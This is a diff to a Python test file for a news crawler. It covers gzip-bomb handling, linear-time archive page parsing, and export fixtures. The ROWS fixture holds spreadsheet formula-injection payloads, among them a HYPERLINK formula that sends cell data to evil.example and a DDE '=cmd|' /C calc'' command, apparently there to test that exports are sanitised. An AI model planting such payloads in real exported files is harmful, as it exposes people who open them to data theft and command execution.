@@ -13,7 +13,6 @@ from __future__ import annotations
 
 import json
 import os
-import resource
 import stat
 import subprocess
 import sys
@@ -60,7 +59,7 @@ def _one_error_line(stderr: str) -> str:
 def test_an_archived_gzip_bomb_is_inflated_within_the_cap(testweb, testweb_outlets: Path, tmp_path: Path):
     """A Common Crawl capture of an article URL whose body is a gzip bomb (Content-Encoding: gzip): the soft-404
     check inflates at most DOWNLOAD_MAXSIZE of it, the compression middleware refuses it (too_large), the other
-    article of the day is stored; the crawl process stays small (the old code: 2.36 GB)."""
+    article of the day is stored; the crawl process stays small (the old code: 2048 MB here)."""
     base = testweb.base_url(SLUG).rstrip("/")
     when = datetime(DAY.year, DAY.month, DAY.day, 20, tzinfo=UTC)
     bomb = F.gzip_bomb(BOMB_BYTES)
@@ -85,7 +84,7 @@ def test_an_archived_gzip_bomb_is_inflated_within_the_cap(testweb, testweb_outle
     fine, = rows_for(data, DAY, SLUG, good)
     stored = archived_pages(data, DAY, SLUG)
     report(f"archived capture = gzip bomb ({len(bomb) / 1e6:.2f} MB gzip, {BOMB_BYTES / 1e9:.0f} GB inflated; "
-           f"crawl peak RSS {result.peak_rss_mb:.0f} MB, the old code 2.36 GB)", "1",
+           f"crawl peak RSS {result.peak_rss_mb:.0f} MB; the old code 2048 MB)", "1",
            f"{bombed['outcome']} ({bombed['reason']})", len(stored))
     assert bombed["outcome"] == "too_large" and "DOWNLOAD_MAXSIZE" in bombed["reason"], bombed
     assert fine["outcome"] == "ok" and len(stored) == 1
@@ -148,9 +147,10 @@ def test_a_600k_anchor_archive_page_takes_linear_comparisons(tmp_path: Path, mon
     """The old code looked each "next" link up in a list: n²/2 comparisons, ~48 min of CPU for this 16 MiB page,
     all of it on the reactor thread (every outlet of the process stalled). Counted, not timed: at most one
     comparison per anchor. Figures before/after: bench/archive_page_bench.py."""
-    from bench.archive_page_bench import OUTLET, page as archive_page
-
+    monkeypatch.syspath_prepend(str(Path(__file__).resolve().parents[1]))  # bench/ is not installed
     from akhbar.crawler.spiders.outlet_day import OutletDaySpider
+    from bench.archive_page_bench import OUTLET
+    from bench.archive_page_bench import page as archive_page
 
     (tmp_path / "bench-archive.toml").write_text(OUTLET, encoding="utf-8")
     spider = OutletDaySpider(outlet="bench-archive", day=DAY.isoformat(), data_dir=str(tmp_path / "data"),
@@ -163,12 +163,14 @@ def test_a_600k_anchor_archive_page_takes_linear_comparisons(tmp_path: Path, mon
     response = HtmlResponse(url, body=body, encoding="utf-8", request=Request(
         url, meta={"akhbar_url": url, "akhbar_kind": "archive", "page": 1, "local_day": DAY}))
     monkeypatch.setattr(discovery, "urljoin", lambda base, href: _Counted(urljoin(base, href)))
+    # the count is real: the URLs compared are _Counted, and a repeated link costs one comparison
+    small = discovery.ArchivePage(archive_page(3, "next") + archive_page(3, "next"), url, "utf-8")
+    assert len(small.next_pages) == 3 and all(isinstance(u, _Counted) for u in small.next_pages)
+    assert _Counted.eq == 6  # one per repeated link: 3 among the links, 3 among the next links
     _Counted.eq = 0
     cpu = time.process_time()
     requests = list(spider._archive(response))
     cpu = time.process_time() - cpu
-    listing = discovery.ArchivePage(body, url, "utf-8")
-    assert len(listing.next_pages) == anchors and isinstance(listing.next_pages[0], _Counted)  # counted for real
     report(f"archive page of {anchors} «»» anchors ({len(body) / 2**20:.1f} MiB; callback {cpu:.1f} s CPU, "
            f"{_Counted.eq} URL comparisons; the old code ~1.8e11, ~48 min)", "1", "ok (1 next page queued)", 0)
     assert _Counted.eq <= anchors
@@ -178,11 +180,13 @@ def test_a_600k_anchor_archive_page_takes_linear_comparisons(tmp_path: Path, mon
 # -- out: export and plot --------------------------------------------------------------------------------------
 
 ROWS = [
-    {"article_id": "a1", "url": "https://www.example.ir/news/1", "title": '=HYPERLINK("http://evil.example/?d="&A1,"خبر فوری")',
-     "text": "-۵ درصد رشد اقتصادی", "tags": ["=1+1", "اقتصاد"], "section": "+98", "signature": b"\xfb\xff\xbf",
-     "text_chars": 19},
-    {"article_id": "a2", "url": "https://www.example.com/news/2", "title": "-3", "text": "@SUM(A1:A9) الأرصاد",
-     "description": "\tقال المسؤول", "section": "\r=cmd|' /C calc'!A0", "signature": b"\x00", "text_chars": 18},
+    {"article_id": "a1", "url": "https://www.example.ir/news/1",
+     "title": '=HYPERLINK("http://evil.example/?d="&A1,"خبر فوری")',
+     "text": "-۵ درصد رشد اقتصادی", "tags": ["=1+1", "اقتصاد"], "section": "+98",
+     "signature": b"\xfb\xff\xbf", "text_chars": 19},
+    {"article_id": "a2", "url": "https://www.example.com/news/2", "title": "-3",
+     "text": "@SUM(A1:A9) الأرصاد", "description": "\tقال المسؤول", "section": "\r=cmd|' /C calc'!A0",
+     "signature": b"\x00", "text_chars": 18},
 ]
 
 
